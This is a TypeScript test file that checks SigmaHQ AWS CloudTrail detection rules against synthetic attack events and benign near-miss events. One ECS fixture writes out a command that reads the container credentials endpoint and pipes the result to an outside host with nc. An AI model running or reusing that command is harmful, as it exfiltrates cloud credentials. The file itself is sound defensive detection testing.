/**
 * Real SigmaHQ AWS rules (read from /work/shared/sigma, not copied) against realistic CloudTrail
 * records written for these tests: each rule matches its attack and not a benign near-miss.
 */
import { describe, it, expect } from 'vitest';
import { sharedDir } from '../../testing/shared-data.js';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createFieldGetter } from '../fields/index.js';
import { compileSigma } from './compile.js';
import { createJsonText } from './json-text.js';
import { loadSigmaRule } from './rule.js';
import { eventOf } from './test-event.js';

const SHARED = sharedDir();
const RULES = join(SHARED ?? '/nonexistent', 'sigma/rules/cloud/aws/cloudtrail');
const getField = createFieldGetter();
const jsonText = createJsonText();

function rule(file: string) {
  const path = join(RULES, file);
  const detection = loadSigmaRule(readFileSync(path, 'utf8'), path);
  const compiled = compileSigma(detection.detection, getField, { jsonText });
  return {
    matches(raw: Record<string, unknown>): boolean {
      const result = compiled.matches(eventOf(raw));
      // The eventName index must never hide a match.
      if (result && compiled.eventNames)
        expect(compiled.eventNames.has(String(raw.eventName).toLowerCase())).toBe(true);
      // Nor the eventSource index.
      if (result && compiled.eventSources)
        expect(compiled.eventSources.has(String(raw.eventSource).toLowerCase())).toBe(true);
      return result;
    },
    eventNames: compiled.eventNames,
  };
}

const alice = {
  type: 'IAMUser',
  principalId: 'AIDA5EXAMPLEALICE0001',
  arn: 'arn:aws:iam::123456789012:user/alice',
  accountId: '123456789012',
  accessKeyId: 'AKIA5EXAMPLEALICE001',
  userName: 'alice',
};

/** A CloudTrail record with the usual envelope; `fields` override or add. */
function record(fields: Record<string, unknown>): Record<string, unknown> {
  return {
    eventVersion: '1.09',
    userIdentity: alice,
    eventTime: '2026-11-20T10:00:00Z',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22',
    requestParameters: null,
    responseElements: null,
    requestID: '9d0a2c1e-5f4b-4c3a-8e2d-1b0a9f8e7d6c',
    eventID: 'a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d',
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: '123456789012',
    eventCategory: 'Management',
    ...fields,
  };
}

describe.runIf(SHARED)('SigmaHQ AWS rules on CloudTrail records', () => {
  it('aws_cloudtrail_disable_logging: StopLogging, not StartLogging', () => {
    const r = rule('aws_cloudtrail_disable_logging.yml');
    const stop = record({
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'StopLogging',
      requestParameters: { name: 'arn:aws:cloudtrail:us-east-1:123456789012:trail/management-events' },
    });
    expect(r.matches(stop)).toBe(true);
    expect(r.matches({ ...stop, eventName: 'StartLogging' })).toBe(false);
    expect([...(r.eventNames ?? [])].sort()).toEqual(['deletetrail', 'stoplogging', 'updatetrail']);
  });

  it('aws_iam_s3browser_templated_s3_bucket_policy_creation: the template policy, not a real bucket', () => {
    const r = rule('aws_iam_s3browser_templated_s3_bucket_policy_creation.yml');
    const policy = (bucket: string) =>
      JSON.stringify(
        {
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Action: ['s3:GetObject', 's3:PutObject'],
              Resource: [`arn:aws:s3:::${bucket}/*`],
            },
          ],
        },
        null,
        2,
      );
    const put = record({
      eventSource: 'iam.amazonaws.com',
      eventName: 'PutUserPolicy',
      userAgent: 'S3 Browser 11.4.5 https://s3browser.com',
      requestParameters: {
        userName: 'backup-svc',
        policyName: 'S3Access',
        policyDocument: policy('<YOUR-BUCKET-NAME>'),
      },
    });
    expect(r.matches(put)).toBe(true);
    const realBucket = {
      ...put,
      requestParameters: {
        userName: 'backup-svc',
        policyName: 'S3Access',
        policyDocument: policy('acme-backups'),
      },
    };
    expect(r.matches(realBucket)).toBe(false);
    expect(r.matches({ ...put, userAgent: 'aws-cli/2.15.30' })).toBe(false);
  });

  it('aws_cloudtrail_imds_malicious_usage: instance credentials used outside AWS, not SSM or AWS-internal calls', () => {
    const r = rule('aws_cloudtrail_imds_malicious_usage.yml');
    const instance = {
      type: 'AssumedRole',
      principalId: 'AROA5EXAMPLEROLE0001:i-0a1b2c3d4e5f67890',
      arn: 'arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0a1b2c3d4e5f67890',
      accountId: '123456789012',
      accessKeyId: 'ASIA5EXAMPLEINST0001',
      sessionContext: {
        sessionIssuer: {
          type: 'Role',
          arn: 'arn:aws:iam::123456789012:role/aws:ec2-instance',
          userName: 'aws:ec2-instance',
        },
        attributes: { creationDate: '2026-11-20T09:00:00Z', mfaAuthenticated: 'false' },
      },
    };
    const listBuckets = record({
      userIdentity: instance,
      eventSource: 's3.amazonaws.com',
      eventName: 'ListBuckets',
      sourceIPAddress: '198.51.100.23',
      readOnly: true,
    });
    expect(r.matches(listBuckets)).toBe(true);
    expect(
      r.matches({ ...listBuckets, eventSource: 'ssm.amazonaws.com', eventName: 'UpdateInstanceInformation' }),
    ).toBe(false);
    expect(r.matches({ ...listBuckets, sourceIPAddress: 'AWS Internal' })).toBe(false);
    expect(r.matches({ ...listBuckets, userIdentity: alice })).toBe(false);
    expect(r.eventNames).toBeUndefined();
  });

  it('aws_update_login_profile (fieldref): an admin resetting another user, not a read or the excluded self-reference', () => {
    const r = rule('aws_update_login_profile.yml');
    const update = record({
      eventSource: 'iam.amazonaws.com',
      eventName: 'UpdateLoginProfile',
      requestParameters: { userName: 'bob', passwordResetRequired: false },
    });
    expect(r.matches(update)).toBe(true);
    expect(r.matches({ ...update, eventName: 'GetLoginProfile', readOnly: true })).toBe(false);
    // The rule's filter drops events whose caller ARN equals the named user (fieldref).
    expect(
      r.matches({ ...update, requestParameters: { userName: alice.arn, passwordResetRequired: false } }),
    ).toBe(false);
  });

  it('aws_new_lambda_layer_attached (startswith): a layer added, not a configuration change without layers', () => {
    const r = rule('aws_new_lambda_layer_attached.yml');
    const update = record({
      eventSource: 'lambda.amazonaws.com',
      eventName: 'UpdateFunctionConfiguration20150331v2',
      requestParameters: {
        functionName: 'orders-api',
        layers: ['arn:aws:lambda:us-east-1:999988887777:layer:telemetry:3'],
      },
    });
    expect(r.matches(update)).toBe(true);
    expect(r.matches({ ...update, requestParameters: { functionName: 'orders-api', timeout: 30 } })).toBe(
      false,
    );
    expect(r.matches({ ...update, eventName: 'GetFunctionConfiguration' })).toBe(false);
  });

  it('aws_cloudtrail_console_login_success_without_mfa: a password-only login, not an MFA login', () => {
    const r = rule('aws_cloudtrail_console_login_success_without_mfa.yml');
    const login = record({
      eventSource: 'signin.amazonaws.com',
      eventName: 'ConsoleLogin',
      userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0',
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: {
        LoginTo: 'https://console.aws.amazon.com/console/home',
        MobileVersion: 'No',
        MFAUsed: 'No',
      },
      readOnly: false,
      eventType: 'AwsConsoleSignIn',
    });
    expect(r.matches(login)).toBe(true);
    expect(
      r.matches({
        ...login,
        additionalEventData: {
          ...(login.additionalEventData as object),
          MFAUsed: 'Yes',
          MFAIdentifier: 'arn:aws:iam::123456789012:mfa/alice',
        },
      }),
    ).toBe(false);
    expect(r.matches({ ...login, responseElements: { ConsoleLogin: 'Failure' } })).toBe(false);
  });

  it('aws_root_account_usage: the root user calling an API, not an AWS service event', () => {
    const r = rule('aws_root_account_usage.yml');
    const root = {
      type: 'Root',
      principalId: '123456789012',
      arn: 'arn:aws:iam::123456789012:root',
      accountId: '123456789012',
      accessKeyId: 'ASIA5EXAMPLEROOT0001',
    };
    const call = record({
      userIdentity: root,
      eventSource: 's3.amazonaws.com',
      eventName: 'ListBuckets',
      readOnly: true,
    });
    expect(r.matches(call)).toBe(true);
    expect(
      r.matches({ ...call, eventType: 'AwsServiceEvent', eventName: 'SharedSnapshotCopyInitiated' }),
    ).toBe(false);
    expect(r.matches({ ...call, userIdentity: alice })).toBe(false);
  });

  it('aws_ecs_task_definition_cred_endpoint_query: a container reading the credentials endpoint, not a plain task', () => {
    const r = rule('aws_ecs_task_definition_cred_endpoint_query.yml');
    const register = (command: string[]) =>
      record({
        eventSource: 'ecs.amazonaws.com',
        eventName: 'RegisterTaskDefinition',
        requestParameters: {
          family: 'worker',
          containerDefinitions: [
            {
              name: 'sidecar',
              image: 'public.ecr.aws/nginx/nginx:1.27',
              command: ['nginx', '-g', 'daemon off;'],
            },
            { name: 'app', image: 'python:3.12-slim', command },
          ],
        },
      });
    expect(
      r.matches(
        register([
          'sh',
          '-c',
          'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.9 80',
        ]),
      ),
    ).toBe(true);
    expect(r.matches(register(['python', '-m', 'worker', '--queue', 'jobs']))).toBe(false);
  });

  it('aws_cloudtrail_guardduty_detector_deleted_or_updated: a successful disable, not an enable or a denied call', () => {
    const r = rule('aws_cloudtrail_guardduty_detector_deleted_or_updated.yml');
    const disable = record({
      eventSource: 'guardduty.amazonaws.com',
      eventName: 'UpdateDetector',
      requestParameters: { detectorId: '12abc34d567e8fa901bc2d34eexample', enable: false },
    });
    expect(r.matches(disable)).toBe(true);
    expect(
      r.matches({
        ...disable,
        requestParameters: { detectorId: '12abc34d567e8fa901bc2d34eexample', enable: true },
      }),
    ).toBe(false);
    expect(r.matches({ ...disable, errorCode: 'AccessDenied', errorMessage: 'User is not authorized' })).toBe(
      false,
    );
    expect(
      r.matches({
        ...disable,
        eventName: 'DeleteDetector',
        requestParameters: { detectorId: '12abc34d567e8fa901bc2d34eexample' },
      }),
    ).toBe(true);
  });

  it('aws_cloudtrail_security_group_change_ingress_egress: opening a port, not describing groups', () => {
    const r = rule('aws_cloudtrail_security_group_change_ingress_egress.yml');
    const open = record({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'AuthorizeSecurityGroupIngress',
      requestParameters: {
        groupId: 'sg-0123456789abcdef0',
        ipPermissions: {
          items: [
            { ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } },
          ],
        },
      },
    });
    expect(r.matches(open)).toBe(true);
    expect(r.matches({ ...open, eventName: 'DescribeSecurityGroups', readOnly: true })).toBe(false);
  });
});
